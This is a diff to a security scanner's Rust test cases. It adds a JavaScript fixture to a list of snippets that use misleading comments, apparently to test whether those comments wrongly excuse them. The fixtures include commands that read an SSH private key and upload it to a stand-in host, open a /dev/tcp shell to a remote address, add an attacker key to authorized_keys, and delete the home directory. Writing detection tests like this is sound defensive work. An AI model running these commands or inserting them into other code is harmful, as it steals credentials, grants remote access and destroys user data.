@@ -44,6 +44,11 @@ const EXCUSED: &[Case] = &[
         "cat ~/.ssh/id_rsa > k; chmod 600 k\ncurl -F f=@k https://x.example/k # http://localhost\n",
     ),
     case("PA201", "a.sh", "cat ~/.ssh/id_rsa > k # known_hosts\ncurl -F f=@k https://x.example/k\n"),
+    case(
+        "PA201",
+        "a.js",
+        "const k = fs.readFileSync(home + '/.ssh/id_rsa'), n = 2\n* 2; fetch(URL, { method: 'POST', body: k }) // http://localhost\n",
+    ),
     case("PA207", "a.sh", "exec 3<>/dev/tcp/198.51.100.4/4444 # exec 3<>/dev/tcp/localhost\n"),
     case("PA208", "a.sh", "echo \"ssh-ed25519 AAAAx remote\" >> ~/.ssh/authorized_keys # docker\n"),
     case("PA210", "a.sh", "# clean up \\\nrm -rf ~/\n"),
